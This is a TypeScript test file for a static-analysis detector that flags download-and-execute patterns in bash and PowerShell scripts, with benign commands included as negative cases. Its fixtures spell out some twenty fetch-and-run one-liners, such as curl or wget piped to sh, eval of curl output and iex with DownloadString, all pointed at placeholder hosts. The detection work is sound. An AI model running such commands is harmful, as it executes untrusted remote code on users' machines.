import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { findDownloadExec } from '../../src/analysis/download-exec.js';
import { parseScript } from '../../src/scripts/index.js';
import type { Language } from '../../src/scripts/types.js';
import { staticText } from '../../src/analysis/sinks/words.js';

async function found(
  code: string,
  language: Language = 'bash',
): Promise<{ url: string | null; text: string }[]> {
  const s = await parseScript(code, language);
  return findDownloadExec(s).map((d) => ({
    url: d.url ? (staticText(d.url) ?? d.url.raw) : null,
    text: d.text,
  }));
}

describe('download and execute', () => {
  const shapes: [string, string, Language?][] = [
    ['curl -sSL https://get.example/install.sh | sh', 'https://get.example/install.sh'],
    ['curl -fsSL https://get.example/i.sh | sudo bash -s -- --yes', 'https://get.example/i.sh'],
    ['wget -qO- https://get.example/i.sh | bash', 'https://get.example/i.sh'],
    ['wget -O - https://get.example/i.sh | sh', 'https://get.example/i.sh'],
    ['curl -s https://get.example/i.sh | tr -d "\\r" | bash', 'https://get.example/i.sh'],
    ['curl -sSf https://gist.example/memdump.py | sudo python3', 'https://gist.example/memdump.py'],
    ['bash <(curl -s https://get.example/i.sh)', 'https://get.example/i.sh'],
    ['source <(curl -s https://get.example/env.sh)', 'https://get.example/env.sh'],
    ['sh -c "$(curl -fsSL https://get.example/i.sh)"', 'https://get.example/i.sh'],
    ['python3 -c "$(curl -fsSL https://get.example/i.py)"', 'https://get.example/i.py'],
    ['eval "$(curl -s https://get.example/env)"', 'https://get.example/env'],
    [
      'curl -sSLo install.sh https://get.example/install.sh && bash install.sh',
      'https://get.example/install.sh',
    ],
    ['curl -O https://get.example/setup.sh\nchmod +x setup.sh\n./setup.sh', 'https://get.example/setup.sh'],
    ['wget https://get.example/run.sh; sh ./run.sh', 'https://get.example/run.sh'],
    ['iex (iwr https://get.example/i.ps1)', 'https://get.example/i.ps1', 'powershell'],
    ['iwr https://get.example/i.ps1 -UseBasicParsing | iex', 'https://get.example/i.ps1', 'powershell'],
    ['irm https://get.example/i.ps1 | Invoke-Expression', 'https://get.example/i.ps1', 'powershell'],
    [
      '(New-Object Net.WebClient).DownloadString("https://get.example/i.ps1") | iex',
      'https://get.example/i.ps1',
      'powershell',
    ],
    [
      'iex ((New-Object System.Net.WebClient).DownloadString("https://get.example/i.ps1"))',
      'https://get.example/i.ps1',
      'powershell',
    ],
    [
      'Invoke-WebRequest https://get.example/i.ps1 -OutFile i.ps1; & ./i.ps1',
      'https://get.example/i.ps1',
      'powershell',
    ],
  ];
  for (const [code, url, language] of shapes) {
    it(code, async () => {
      const f = await found(code, language ?? 'bash');
      assert.equal(f.length, 1, JSON.stringify(f));
      assert.equal(f[0]?.url, url);
      assert.ok((f[0]?.text.length ?? 0) > 0);
    });
  }

  it('the text spans from the download to the execution', async () => {
    const [f] = await found('curl -sSL https://get.example/install.sh | sh');
    assert.equal(f?.text, 'curl -sSL https://get.example/install.sh | sh');
  });

  const benign = [
    'curl -sSL https://api.example/data.json | jq .',
    'curl -sSL https://api.example/data | python3 parse.py',
    'wget https://get.example/file.tar.gz && tar xzf file.tar.gz',
    'curl -o out.json https://api.example && cat out.json',
    'bash ./scripts/build.sh',
    'wget https://get.example/terraform && terraform version',
    'x=$(curl -s https://api.example/version); echo $x',
  ];
  for (const code of benign) {
    it(`not: ${code}`, async () => assert.deepEqual(await found(code), []));
  }
});
